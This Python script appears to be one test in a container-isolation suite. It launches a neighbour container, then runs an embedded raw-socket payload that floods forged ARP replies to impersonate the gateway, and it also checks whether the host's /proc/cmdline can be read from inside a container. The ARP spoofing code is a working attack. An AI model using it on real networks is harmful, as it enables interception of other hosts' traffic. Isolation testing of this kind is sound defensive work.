#!/usr/bin/python3
"""Break-out 09: be the gateway to a neighbour, and read how the machine was started."""

import contextlib
import os
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(sys.path[0], ".."))
from attack import Attack

NETWORK = os.path.join(sys.path[0], "network.sh")
# arp(7): whoever answers last is believed. packet(7) puts any bytes on the wire.
SPOOF = """
import select, socket, struct, sys
gateway, neighbour = map(socket.inet_aton, sys.argv[1:])
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().replace(":", ""))
answer = b"\\xff" * 6 + own + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, 2)
answer += own + gateway + b"\\xff" * 6 + neighbour
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
print("answers as", ":".join(f"{byte:02x}" for byte in own), flush=True)
while not select.select([sys.stdin], [], [], 0.1)[0]:
    wire.send(answer)
"""
PATIENCE = 30  # seconds in which the neighbour must believe an answer


@contextlib.contextmanager
def bridge():
    """Switches the host's side of the network on for a while, unless it is on already."""
    was_on = subprocess.run([NETWORK, "status"], capture_output=True).returncode == 0
    done = subprocess.run([NETWORK, "on"], capture_output=True, text=True)
    if done.returncode != 0:
        print(done.stderr.strip(), file=sys.stderr)
        sys.exit(2)
    try:
        yield
    finally:
        if not was_on:
            subprocess.run([NETWORK, "off"], check=True, capture_output=True)


@contextlib.contextmanager
def neighbour(runtime):
    """Starts another container on the bridge. Yields a function that runs a line in its
    shell, and returns the one line that this prints."""
    words = [runtime, "run", "--net", "bridge", "debian", "bash"]
    with subprocess.Popen(words, stdin=-1, stdout=-1, text=True) as process:

        def ask(line):
            process.stdin.write(f"echo $({line})\n")
            process.stdin.flush()
            return process.stdout.readline().strip()

        yield ask
        process.stdin.close()


attack = Attack()

with bridge(), neighbour(attack.runtime) as ask:
    address = ask("hostname -I")
    gateway = ask("ip route show default | cut -d' ' -f3")
    ask(f"echo hello >/dev/udp/{gateway}/9")  # asks for the gateway's hardware address
    words = [attack.runtime, "run", "--net", "bridge", "app"]
    words += ["python3", "-c", SPOOF, gateway, address]
    with subprocess.Popen(words, stdin=-1, stdout=-1, stderr=-1, text=True) as process:
        # The gateway soon asks its neighbour whether it is still there, and that repairs the
        # entry. So we look while the answers are being sent.
        out, worked, end = process.stdout.readline(), False, time.monotonic() + PATIENCE
        while out and not worked and time.monotonic() < end:
            time.sleep(0.1)
            worked = out.split()[-1] in ask(f"ip neighbour show {gateway}")
        process.stdin.close()  # no more answers
        out, err = out + process.stdout.read(), process.stderr.read()
done = subprocess.CompletedProcess(words, process.returncode, out, err)
attack.report(f"be {gateway}, the gateway, to {address}", worked, done)

process = attack.inside("cat", "/proc/cmdline")
with open("/proc/cmdline") as file:
    worked = process.stdout == file.read()
attack.report("read how the machine was started", worked, process)

attack.end()
